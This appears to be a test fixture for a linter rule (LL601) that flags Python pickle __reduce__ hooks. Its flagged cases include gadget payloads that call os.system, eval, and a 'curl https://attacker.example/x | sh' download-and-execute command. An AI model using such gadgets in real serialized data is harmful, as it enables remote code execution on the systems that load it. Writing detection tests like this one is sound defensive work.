import copyreg
import os
import subprocess


class Exploit:
    # expect: LL601
    def __reduce__(self):
        return (os.system, ("id",))


class ShellPayload(object):
    # expect: LL601
    def __reduce_ex__(self, protocol):
        return (subprocess.check_output, (["sh", "-c", "curl -s https://attacker.example/x | sh"],))


class EvalGadget:
    def __init__(self, source):
        self.source = source

    # expect: LL601
    def __reduce__(
        self,
    ):
        return (eval, (self.source,))


def _rebuild_point(x, y):
    return Point(x, y)


class Point:
    __slots__ = ("x", "y")

    def __init__(self, x, y):
        self.x, self.y = x, y

    # legitimate pickling support is still reported: this is an audit signal
    # expect: LL601
    def __reduce__(self):
        return (_rebuild_point, (self.x, self.y))


class Borrowed:
    # expect: LL601
    __reduce__ = Exploit.__reduce__


def make_payload_class():
    class Inner:
        # expect: LL601
        def __reduce__(self):
            return (os.system, ("touch /tmp/pwned",))

    return Inner


class StateOnly:
    def __init__(self):
        self.cache = {}

    # ok: LL601
    def __getstate__(self):
        return {}

    # ok: LL601
    def __setstate__(self, state):
        self.cache = {}

    # ok: LL601
    def __getnewargs__(self):
        return ()


# a module-level function with the name is not a class member
# ok: LL601
def __reduce__(obj):
    return obj


# ok: LL601
class Registered:
    pass


# ok: LL601
copyreg.pickle(Registered, lambda obj: (Registered, ()))


def calls_reduce(obj):
    # ok: LL601
    return obj.__reduce__(), obj.__reduce_ex__(2)
